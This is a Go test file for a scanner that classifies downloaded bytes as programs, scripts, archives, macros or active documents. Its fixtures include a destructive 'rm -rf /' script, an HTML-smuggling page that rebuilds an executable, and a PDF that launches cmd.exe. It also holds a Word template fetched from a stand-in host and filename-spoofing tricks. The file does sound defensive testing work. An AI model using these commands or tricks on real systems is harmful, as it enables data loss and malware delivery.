package files_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/zstd"
	"github.com/ulikunitz/xz"

	"belisha/internal/gate/files"
	"belisha/internal/verdict"
)

// pe is the smallest thing that Windows would take for a program's header.
func pe() []byte {
	b := make([]byte, 512)
	copy(b, "MZ\x90\x00\x03\x00")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00\x64\x86\x02\x00")
	binary.LittleEndian.PutUint16(b[0x80+24:], 0x20b)
	return b
}

func png() []byte {
	return append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"), make([]byte, 400)...)
}

func gif() []byte { return append([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00"), make([]byte, 200)...) }

const page = "<!DOCTYPE html><html><head><title>Frogs</title></head><body><p>Frogs are amphibians.</p></body></html>"

func look(t *testing.T, b []byte, m files.Meta) files.Report {
	t.Helper()
	return lookIn(t, b, m, files.Bounds{})
}

func lookIn(t *testing.T, b []byte, m files.Meta, in files.Bounds) files.Report {
	t.Helper()
	in.Dir = t.TempDir()
	r := files.Open(context.Background(), bytes.NewReader(b), int64(len(b)), &m, in)
	left, err := os.ReadDir(in.Dir)
	if err != nil || len(left) > 0 {
		t.Errorf("the look left %d files behind (%v)", len(left), err)
	}
	return r
}

type kv struct {
	name string
	body []byte
}

func zipOf(t testing.TB, list ...kv) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, e := range list {
		f, err := z.Create(e.name)
		if err == nil {
			_, err = f.Write(e.body)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func storedZip(t testing.TB, list ...kv) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, e := range list {
		f, err := z.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Store})
		if err == nil {
			_, err = f.Write(e.body)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func tarOf(t testing.TB, list ...kv) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, e := range list {
		if err := w.WriteHeader(&tar.Header{Name: e.name, Size: int64(len(e.body)), Mode: 0o644}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(e.body); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func gz(t testing.TB, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func xzOf(t testing.TB, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w, err := xz.WriterConfig{BlockSize: 100_000, CheckSum: xz.CRC32}.NewWriter(&out)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func zst(t testing.TB, b []byte) []byte {
	t.Helper()
	w, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	return w.EncodeAll(b, nil)
}

func words(k files.Kinds) string { return k.String() }

func TestWhatTheBytesSay(t *testing.T) {
	zeroed := pe()
	copy(zeroed, "\x00\x00\x00\x00")
	class := append([]byte("\xca\xfe\xba\xbe\x00\x00\x00\x3d"), make([]byte, 60)...)
	fat := append([]byte("\xca\xfe\xba\xbe\x00\x00\x00\x02"), make([]byte, 60)...)
	iso := make([]byte, 40<<10)
	copy(iso[32768:], "\x01CD001\x01")
	vhd := append(make([]byte, 4096), append([]byte("conectix"), make([]byte, 504)...)...)
	dmg := append(bytes.Repeat([]byte("x"), 4096), append([]byte("koly"), make([]byte, 508)...)...)
	mbr := make([]byte, 1024)
	mbr[0], mbr[446], mbr[450], mbr[510], mbr[511] = 0xeb, 0x80, 0x07, 0x55, 0xaa
	for _, c := range []struct {
		name string
		body []byte
		meta files.Meta
		want string
	}{
		{"a Windows program called a photo", pe(), files.Meta{Path: "/photo.jpg", Type: "image/jpeg"}, "program"},
		{"a program behind leading junk", append([]byte("junk junk junk "), pe()...), files.Meta{Path: "/photo.jpg", Type: "image/jpeg"}, "program"},
		{"a program behind a byte order mark", append([]byte("\xef\xbb\xbf"), pe()...), files.Meta{}, "program"},
		{"a program whose first letters are zeroed", zeroed, files.Meta{Path: "/x.dat"}, "program"},
		{"a program behind a picture's header", append(gif(), pe()...), files.Meta{Path: "/x.gif", Type: "image/gif"}, "program"},
		{"a program behind a page", append([]byte(page), pe()...), files.Meta{Type: "text/html"}, "program"},
		{"a program behind a PDF's header", append([]byte("%PDF-1.4\n"), pe()...), files.Meta{Type: "application/pdf"}, "program"},
		{"a Linux program", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 60)...), files.Meta{Path: "/a.png", Type: "image/png"}, "program"},
		{"a 32 bit Mac program", append([]byte("\xfe\xed\xfa\xce"), make([]byte, 60)...), files.Meta{}, "program"},
		{"a 64 bit Mac program", append([]byte("\xcf\xfa\xed\xfe"), make([]byte, 60)...), files.Meta{}, "program"},
		{"a Mac program for several processors", fat, files.Meta{}, "program"},
		{"a Java class", class, files.Meta{}, "program"},
		{"an Android program", append([]byte("dex\n035\x00"), make([]byte, 60)...), files.Meta{}, "program"},
		{"an RPM", append([]byte("\xed\xab\xee\xdb\x03"), make([]byte, 90)...), files.Meta{Type: "image/png"}, "installer"},
		{"a Debian package", []byte("!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n"), files.Meta{}, "installer, archive"},
		{"a Mac package", append([]byte("xar!\x00\x1c\x00\x01"), make([]byte, 60)...), files.Meta{}, "installer"},
		{"a Mac disc image, by its end", dmg, files.Meta{Path: "/x.bin"}, "installer, disk, unreadable"},
		{"a browser extension", append([]byte("Cr24\x03\x00\x00\x00"), make([]byte, 60)...), files.Meta{}, "app"},
		{"a disc image", iso, files.Meta{Path: "/film.mp4", Type: "video/mp4"}, "disk"},
		{"a drive image, by its end", vhd, files.Meta{Path: "/film.mp4", Type: "video/mp4"}, "disk, unreadable"},
		{"a VHDX", append([]byte("vhdxfile"), make([]byte, 1024)...), files.Meta{}, "disk, unreadable"},
		{"a raw drive", mbr, files.Meta{Path: "/x"}, "disk, unreadable"},
		{"a shortcut", append([]byte("L\x00\x00\x00\x01\x14\x02\x00"), make([]byte, 60)...), files.Meta{Path: "/x.txt"}, "script"},
		{"a web shortcut", []byte("[InternetShortcut]\r\nURL=file://server/x.exe\r\n"), files.Meta{Path: "/x.txt"}, "script"},
		{"a shell script by its first line", []byte("#!/bin/sh\nrm -rf /\n"), files.Meta{Path: "/readme", Type: "text/plain"}, "script"},
		{"PowerShell by its name", []byte("Invoke-WebRequest x\n"), files.Meta{Path: "/x.ps1", Type: "text/plain"}, "script"},
		{"a batch file by its name", []byte("echo hello\n"), files.Meta{Path: "/x.BAT", Type: "text/plain"}, "script"},
		{"VBScript by its name", []byte("MsgBox 1\n"), files.Meta{Path: "/x.vbs", Type: "text/plain"}, "script"},
		{"an HTA by its name, though it is a page", []byte(page), files.Meta{Path: "/x.hta", Type: "application/hta"}, "script"},
		{"a page's own script", []byte("export const a = 1\n"), files.Meta{Path: "/app.js", Type: "text/javascript"}, ""},
		{"a script offered for saving", []byte("var a = 1\n"), files.Meta{Path: "/get", Disposition: []string{`attachment; filename="invoice.js"`}, Type: "text/javascript"}, "script"},
		{"Python shown as text", []byte("print('hello')\n"), files.Meta{Path: "/lesson.py", Type: "text/plain"}, ""},
		{"Python offered for saving", []byte("print('hello')\n"), files.Meta{Path: "/lesson.py", Disposition: []string{"attachment"}}, "script"},
		{"a page whose address ends in exe", []byte(page), files.Meta{Path: "/wiki/File:setup.exe", Type: "text/html"}, ""},
		{"a page at an address with com", []byte(page), files.Meta{Path: "/site/example.com", Type: "text/html"}, ""},
		{"data of a library's address", []byte(`{"a":1}`), files.Meta{Path: "/api/load.dll", Type: "application/json"}, ""},
		{"WebAssembly", append([]byte("\x00asm\x01\x00\x00\x00"), make([]byte, 60)...), files.Meta{Type: "application/wasm"}, ""},
		{"a picture", png(), files.Meta{Path: "/a.png", Type: "image/png"}, ""},
		{"a page", []byte(page), files.Meta{Path: "/", Type: "text/html"}, ""},
		{"nothing", nil, files.Meta{}, ""},
		{"a type that says program", []byte("hello"), files.Meta{Type: "application/x-msdownload"}, "program"},
		{"compiled help", append([]byte("ITSF\x03\x00\x00\x00"), make([]byte, 60)...), files.Meta{}, "script"},
		{"an archive nobody can open", append([]byte("\x60\xea\x2c\x00"), make([]byte, 60)...), files.Meta{}, "archive, unreadable"},
		{"a text that begins like a program", []byte("MZ is the first thing in a program, said the teacher."), files.Meta{Type: "text/plain"}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := words(look(t, c.body, c.meta).Kinds); got != c.want {
				t.Errorf("found %q, want %q", got, c.want)
			}
		})
	}
}

func TestNamesThatHide(t *testing.T) {
	body := []byte("just words")
	for _, c := range []struct{ name, disposition, want string }{
		{"quoted", `attachment; filename="a.ps1"`, "script"},
		{"not quoted", `attachment; filename=a.ps1`, "script"},
		{"extended", `attachment; filename*=UTF-8''a%2Eps1`, "script"},
		{"the second of two", `attachment; filename="a.txt"; filename="a.ps1"`, "script"},
		{"the first of two", `attachment; filename="a.ps1"; filename="a.txt"`, "script"},
		{"extended differs from plain", `attachment; filename="a.txt"; filename*=UTF-8''a.ps1`, "script"},
		{"a quote that is not closed", `attachment; filename="a.ps1`, "script"},
		{"a quote inside", `attachment; filename="a\".ps1"`, "script"},
		{"single quotes", `attachment; filename='a.ps1'`, "script"},
		{"continued", `attachment; filename*0="a."; filename*1="ps1"`, "script"},
		{"continued and extended", `attachment; filename*0*=UTF-8''a%2E; filename*1="ps1"`, "script"},
		{"writing turned round", "attachment; filename=\"photo\u202egpj.ps1\"", "script"},
		{"dots at the end", `attachment; filename="a.ps1..."`, "script"},
		{"spaces at the end", `attachment; filename="a.ps1   "`, "script"},
		{"two extensions", `attachment; filename="letter.pdf.ps1"`, "script"},
		{"a stream's name", `attachment; filename="a.ps1::$DATA"`, "script"},
		{"a NUL before a better end", "attachment; filename=\"a.ps1\x00.jpg\"", "script"},
		{"a letter nobody sees", "attachment; filename=\"a.p\u200bs1\"", "script"},
		{"wide letters", "attachment; filename=\"a．ｐｓ１\"", "script"},
		{"a folder in front", `attachment; filename="..\..\start\a.ps1"`, "script"},
		{"an encoded word", `attachment; filename="=?utf-8?B?YS5wczE=?="`, "script"},
		{"no word in front", `filename="a.ps1"`, "script"},
		{"inline with a name", `inline; filename="a.ps1"`, "script"},
		{"upper case", `ATTACHMENT; FILENAME="A.PS1"`, "script"},
		{"harmless", `attachment; filename="a.txt"`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := files.Meta{Path: "/get.php", Disposition: []string{c.disposition}, Type: "text/plain"}
			if got := words(files.Look(&m, body).Kinds); got != c.want {
				t.Errorf("%s: %q, want %q", c.disposition, got, c.want)
			}
		})
	}
}

func nest(t *testing.T, n int, b []byte) []byte {
	for range n {
		b = zipOf(t, kv{"inner.zip", b})
	}
	return b
}

func TestWhatIsPackedInside(t *testing.T) {
	inner := storedZip(t, kv{"setup.exe", pe()})
	for _, c := range []struct {
		name string
		body []byte
		want string
	}{
		{"a program in a zip", zipOf(t, kv{"a.txt", []byte("hi")}, kv{"photo.jpg", pe()}), "program, archive"},
		{"a zip in a zip", nest(t, 1, inner), "program, archive"},
		{"a zip in six zips", nest(t, 6, inner), "archive, unreadable"},
		{"a picture in a zip", zipOf(t, kv{"a.png", png()}), "archive"},
		{"a tar", tarOf(t, kv{"a/b/photo.jpg", pe()}), "program, archive"},
		{"a tar.gz", gz(t, tarOf(t, kv{"photo.jpg", pe()})), "program, archive"},
		{"a tar.xz of several blocks", xzOf(t, tarOf(t, kv{"fill", noise(250_000)}, kv{"photo.jpg", pe()})), "program, archive"},
		{"two xz one behind the other", append(xzOf(t, []byte("hello")), xzOf(t, bytes.Repeat([]byte("hello "), 100))...), "archive"},
		{"a tar.zst", zst(t, tarOf(t, kv{"photo.jpg", pe()})), "program, archive"},
		{"a zip behind a picture", append(gif(), inner...), "program, archive"},
		{"a zip behind a page", append([]byte(page), zipOf(t, kv{"x", pe()})...), "program, archive"},
		{"a zip behind a PDF", append([]byte("%PDF-1.4\n%%EOF\n"), zipOf(t, kv{"x", pe()})...), "program, archive"},
		{"a program that unpacks itself", append(pe(), zipOf(t, kv{"a.txt", []byte("x")})...), "program, archive"},
		{"a zip cut short", zipOf(t, kv{"photo.jpg", pe()}, kv{"b", noise(5000)})[:3000], "program, archive, unreadable"},
		{"a file that its own header packs otherwise than the directory", twoMinds(t), "archive, unreadable"},
		{"a file that the directory does not name", hiddenEntry(t), "program, archive"},
		{"a script in a zip", zipOf(t, kv{"invoice.js", []byte("var a")}), "script, archive"},
		{"a Word document", docx(t), ""},
		{"a Word document with macros", docx(t, kv{"word/vbaProject.bin", []byte("x")}), "macro"},
		{"a Word document that fetches its template", docx(t, kv{"word/_rels/settings.xml.rels", []byte(`<Relationship Type="http://x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>`)}), "active"},
		{"a program in a Word document", docx(t, kv{"word/embeddings/oleObject1.bin", pe()}), "program"},
		{"a document that says it has macros", zipOf(t, kv{"[Content_Types].xml", []byte(`<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`)}), "macro"},
		{"an OpenDocument text", zipOf(t, kv{"mimetype", []byte("application/vnd.oasis.opendocument.text")}, kv{"content.xml", []byte("<a/>")}), ""},
		{"an OpenDocument text with macros", zipOf(t, kv{"mimetype", []byte("application/vnd.oasis.opendocument.text")}, kv{"Basic/Standard/Module1.xml", []byte("<a/>")}), "macro"},
		{"an Android app", zipOf(t, kv{"AndroidManifest.xml", []byte("x")}, kv{"classes.dex", append([]byte("dex\n035\x00"), make([]byte, 50)...)}), "program, app, archive"},
		{"an iPad app", zipOf(t, kv{"Payload/Game.app/Info.plist", []byte("x")}), "app, archive"},
		{"a Java program", zipOf(t, kv{"META-INF/MANIFEST.MF", []byte("x")}, kv{"a/Main.class", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x3d")}), "program, archive"},
		{"a Windows app package", zipOf(t, kv{"AppxManifest.xml", []byte("x")}), "installer, archive"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := look(t, c.body, files.Meta{Path: "/x", Type: ""})
			if got := words(r.Kinds); got != c.want {
				t.Errorf("found %q (%v), want %q", got, r.Found, c.want)
			}
		})
	}
}

func noise(n int) []byte {
	b, x := make([]byte, n), uint32(7)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = byte(x >> 24)
	}
	return b
}

func docx(t *testing.T, more ...kv) []byte {
	return zipOf(t, append([]kv{{"[Content_Types].xml", []byte("<Types/>")}, {"word/document.xml", []byte("<w:document/>")}}, more...)...)
}

// hiddenEntry is a zip whose directory leaves its first file out.
func hiddenEntry(t *testing.T) []byte {
	first := storedLocal("photo.jpg", pe())
	return append(first, zipOf(t, kv{"a.txt", []byte("hello")})...)
}

// twoMinds is a zip whose file is stored by its header and packed by the
// directory.
func twoMinds(t *testing.T) []byte {
	b := storedZip(t, kv{"a.txt", []byte("hello")})
	b[bytes.Index(b, []byte("PK\x03\x04"))+8] = 8
	return b
}

// storedLocal is an entry without a directory.
func storedLocal(name string, body []byte) []byte {
	h := make([]byte, 30)
	copy(h, "PK\x03\x04\x14\x00")
	binary.LittleEndian.PutUint32(h[18:], uint32(len(body)))
	binary.LittleEndian.PutUint32(h[22:], uint32(len(body)))
	binary.LittleEndian.PutUint16(h[26:], uint16(len(name)))
	return append(append(h, name...), body...)
}

func TestWhereSomethingWasFoundIsSaid(t *testing.T) {
	b := zipOf(t, kv{"games/a.zip", zipOf(t, kv{"../../setup\u202e.exe", pe()})})
	r := look(t, b, files.Meta{Path: "/x.zip"})
	f, ok := r.First(verdict.FileProgram)
	if !ok || f.String() != "program: by its name or type, setup.exe in a.zip" {
		t.Errorf("found %q", f.String())
	}
}

func TestDocumentsThatAct(t *testing.T) {
	smuggled := `<html><script>var d="TVqQAAMAAAAEAAAA` + strings.Repeat("A", 200) + `";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download="x.exe"</script></html>`
	for _, c := range []struct {
		name, body, want string
	}{
		{"a PDF", "%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF", ""},
		{"a PDF with script", "%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj", "active"},
		{"a PDF with script written with escapes", "%PDF-1.7\n1 0 obj<</S/J#61va#53cript>>endobj", "active"},
		{"a PDF that starts programs", "%PDF-1.7\n1 0 obj<</S /Launch /F (cmd.exe)>>endobj", "active"},
		{"a PDF with a file in it", "%PDF-1.7\n1 0 obj<</Type/EmbeddedFile>>endobj", "active"},
		{"a PDF whose script is packed", pdfPacked(t), "active"},
		{"a PDF whose script is packed under a name with escapes", strings.Replace(pdfPacked(t), "ObjStm", "Obj#53tm", 1), "active"},
		{"a PDF whose script is packed behind much padding", strings.Replace(pdfPacked(t), "/N 1", "/N 1 /Pad ("+strings.Repeat("x", 20_000)+")", 1), "active"},
		{"a PDF whose objects are packed otherwise", "%PDF-1.7\n4 0 obj\n<</Type/ObjStm/Filter/LZWDecode>>\nstream\nxyz\nendstream endobj", "unreadable"},
		{"a PDF that is encrypted in no known way", "%PDF-1.7\ntrailer<</Encrypt 5 0 R>>", "locked"},
		{"RTF", `{\rtf1 hello}`, ""},
		{"RTF with an object", `{\rtf1{\object\objemb{\*\objdata 0105}}}`, "active"},
		{"a drawing", `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`, ""},
		{"a drawing with script", `<?xml version="1.0"?><!-- x --><svg><script>alert(1)</script></svg>`, "active"},
		{"a drawing that runs when it is shown", `<svg onload = "alert(1)"/>`, "active"},
		{"a page that puts a program together", smuggled, "active"},
		{"a page with a program for an address", `<!doctype html><a href="data:application/octet-stream;base64,TVqQ` + strings.Repeat("A", 100) + `">x</a>`, "active"},
		{"a page with a picture for an address", `<!doctype html><img src="data:image/png;base64,iVBORw0KGgo` + strings.Repeat("A", 100) + `">`, ""},
		{"a Word document written out as XML, with macros", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes">`, "macro"},
		{"a page about how to save", `<html>click download, then new Blob() and "TVqQ" is how it begins</html>`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := look(t, []byte(c.body), files.Meta{Path: "/x"})
			if got := words(r.Kinds); got != c.want {
				t.Errorf("found %q (%v), want %q", got, r.Found, c.want)
			}
		})
	}
	if !files.Smuggles([]byte(smuggled)) {
		t.Error("a page that puts a program together was not seen by Smuggles")
	}
}

func tool(t *testing.T, name, pkg string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		t.Skipf("needs Debian's %s", pkg)
	}
	return p
}

func run(t *testing.T, dir, name string, args ...string) {
	t.Helper()
	c := exec.Command(name, args...)
	c.Dir = dir
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", name, err, out)
	}
}

func TestArchivesOfRealPrograms(t *testing.T) {
	sevenZ, mkiso := tool(t, "7z", "p7zip-full"), tool(t, "genisoimage", "genisoimage")
	dir := t.TempDir()
	for name, b := range map[string][]byte{"photo.jpg": pe(), "words.txt": bytes.Repeat([]byte("frog "), 5000), "fill.bin": noise(300_000)} {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	in := []string{"photo.jpg", "words.txt", "fill.bin"}
	for _, c := range []struct {
		name, file string
		args       []string
		want       string
	}{
		{"7z", "a.7z", []string{"a", "a.7z"}, "program, archive"},
		{"7z not solid", "b.7z", []string{"a", "-ms=off", "b.7z"}, "program, archive"},
		{"7z with PPMd", "c.7z", []string{"a", "-m0=PPMd", "c.7z"}, "archive, unreadable"},
		{"7z with bzip2", "d.7z", []string{"a", "-m0=BZip2", "d.7z"}, "program, archive"},
		{"7z with BCJ2", "e.7z", []string{"a", "-m0=BCJ2", "-m1=LZMA", "-m2=LZMA", "-m3=LZMA", "-mb0:1", "-mb0s1:2", "-mb0s2:3", "e.7z"}, "program, archive"},
		{"7z copied", "f.7z", []string{"a", "-mx=0", "f.7z"}, "program, archive"},
		{"7z with its directory in clear", "fh.7z", []string{"a", "-mhc=off", "fh.7z"}, "program, archive"},
		{"7z with a dictionary beyond our memory", "g.7z", []string{"a", "-m0=LZMA2:d=256m", "g.7z"}, "program, archive"},
		{"7z with a password", "h.7z", []string{"a", "-pfrog", "h.7z"}, "archive, locked"},
		{"7z with a password for its names", "i.7z", []string{"a", "-pfrog", "-mhe=on", "i.7z"}, "archive, locked"},
		{"zip with a password", "j.zip", []string{"a", "-tzip", "-pfrog", "j.zip"}, "archive, locked"},
		{"zip with AES", "k.zip", []string{"a", "-tzip", "-pfrog", "-mem=AES256", "k.zip"}, "archive, locked"},
		{"zip with deflate64", "l.zip", []string{"a", "-tzip", "-mm=Deflate64", "l.zip"}, "archive, unreadable"},
		{"zip with LZMA", "m.zip", []string{"a", "-tzip", "-mm=LZMA", "m.zip"}, "program, archive"},
		{"zip with bzip2", "n.zip", []string{"a", "-tzip", "-mm=BZip2", "n.zip"}, "program, archive"},
		{"tar", "o.tar", []string{"a", "-ttar", "o.tar"}, "program, archive"},
	} {
		t.Run(c.name, func(t *testing.T) {
			run(t, dir, sevenZ, append(c.args, in...)...)
			b, err := os.ReadFile(filepath.Join(dir, c.file))
			if err != nil {
				t.Fatal(err)
			}
			r := look(t, b, files.Meta{Path: "/x"})
			if got := words(r.Kinds); got != c.want {
				t.Errorf("found %q (%v), want %q", got, r.Found, c.want)
			}
		})
	}
	t.Run("what bzip2 and gzip of 7z packed", func(t *testing.T) {
		for _, kind := range []string{"bzip2", "gzip", "xz"} {
			run(t, dir, sevenZ, "a", "-t"+kind, "p."+kind, "photo.jpg")
			b, err := os.ReadFile(filepath.Join(dir, "p."+kind))
			if err != nil {
				t.Fatal(err)
			}
			if got := words(look(t, b, files.Meta{}).Kinds); got != "program, archive" {
				t.Errorf("%s: found %q", kind, got)
			}
		}
	})
	t.Run("discs", func(t *testing.T) {
		for args, want := range map[string]string{"": "program, disk", "-J": "program, disk", "-R": "program, disk", "-udf": "program, disk, unreadable"} {
			list := strings.Fields(args + " -quiet -o d.iso photo.jpg words.txt")
			run(t, dir, mkiso, list...)
			b, err := os.ReadFile(filepath.Join(dir, "d.iso"))
			if err != nil {
				t.Fatal(err)
			}
			r := look(t, b, files.Meta{})
			if got := words(r.Kinds); got != want {
				t.Errorf("genisoimage %s: found %q (%v), want %q", args, got, r.Found, want)
			}
		}
	})
	t.Run("a program that unpacks itself from 7z", func(t *testing.T) {
		b, err := os.ReadFile(filepath.Join(dir, "a.7z"))
		if err != nil {
			t.Fatal(err)
		}
		r := look(t, append(gif(), b...), files.Meta{Type: "image/gif"})
		if got := words(r.Kinds); got != "program, archive" {
			t.Errorf("found %q (%v)", got, r.Found)
		}
	})
}

func TestOnlyMediaPassUntouched(t *testing.T) {
	for _, c := range []struct {
		name  string
		body  []byte
		meta  files.Meta
		whole bool
	}{
		{"a picture", png(), files.Meta{Path: "/a.png", Type: "image/png"}, false},
		{"a page", []byte(page), files.Meta{Path: "/", Type: "text/html"}, false},
		{"a picture offered for saving", png(), files.Meta{Path: "/a.png", Disposition: []string{"attachment"}}, true},
		{"bytes nobody knows", noise(900), files.Meta{Path: "/x", Type: "application/x-thing"}, true},
		{"a zip", zipOf(t, kv{"a", nil}), files.Meta{}, true},
	} {
		if g := files.Look(&c.meta, c.body); g.Whole != c.whole {
			t.Errorf("%s: whole is %v, want %v", c.name, g.Whole, c.whole)
		}
	}
	if files.Tail(png()) || !files.Tail(append(gif(), zipOf(t, kv{"a", nil})...)) {
		t.Error("Tail does not tell a picture from one with a zip behind it")
	}
}

func TestLookAllocatesNothing(t *testing.T) {
	html := append([]byte(page), bytes.Repeat([]byte(" word"), 200)...)
	pic := append(png(), make([]byte, 600)...)
	for name, c := range map[string]struct {
		m files.Meta
		b []byte
	}{
		"page":    {files.Meta{Path: "/a/b/index.html", Type: "text/html; charset=utf-8"}, html[:1024]},
		"picture": {files.Meta{Path: "/a/b/photo.png", Type: "image/png"}, pic[:1000]},
	} {
		if n := testing.AllocsPerRun(200, func() { files.Look(&c.m, c.b) }); n != 0 {
			t.Errorf("%s: %v allocations", name, n)
		}
	}
}

func BenchmarkLook(b *testing.B) {
	html := append([]byte(page), bytes.Repeat([]byte(" word"), 200)...)[:1024]
	pic := append(png(), make([]byte, 600)...)[:1000]
	for name, c := range map[string]struct {
		m files.Meta
		b []byte
	}{
		"page":    {files.Meta{Path: "/a/b/index.html", Type: "text/html; charset=utf-8"}, html},
		"picture": {files.Meta{Path: "/a/b/photo.png", Type: "image/png"}, pic},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				files.Look(&c.m, c.b)
			}
		})
	}
}

func TestKindsAreSaidInOrder(t *testing.T) {
	if d := cmp.Diff("program, locked", words(files.KindsOf(verdict.FileLocked, verdict.FileProgram))); d != "" {
		t.Error(d)
	}
}
